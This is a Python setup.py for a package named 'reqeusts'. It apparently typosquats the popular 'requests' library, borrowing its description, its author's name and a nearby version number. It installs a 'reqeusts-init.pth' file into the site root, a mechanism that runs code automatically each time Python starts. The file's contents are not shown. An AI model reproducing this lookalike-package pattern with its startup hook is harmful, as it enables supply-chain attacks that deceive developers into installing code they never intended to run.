import os

from setuptools import find_packages, setup

here = os.path.abspath(os.path.dirname(__file__))

with open(os.path.join(here, "README.rst"), encoding="utf-8") as f:
    long_description = f.read()

with open(os.path.join(here, "requirements.txt")) as f:
    requirements = f.read().splitlines()

setup(
    name="reqeusts",
    version="2.28.3",
    description="Python HTTP for Humans.",
    long_description=long_description,
    author="Kenneth Reitz",
    author_email="me@example.com",
    url="https://example.com/reqeusts",
    license="MIT",
    packages=find_packages(exclude=["tests", "tests.*", "docs"]),
    data_files=[("", ["reqeusts-init.pth"])],
    install_requires=requirements,
    python_requires=">=3.7",
    classifiers=[
        "License :: OSI Approved :: MIT License",
        "Programming Language :: Python :: 3",
        "Operating System :: OS Independent",
    ],
)
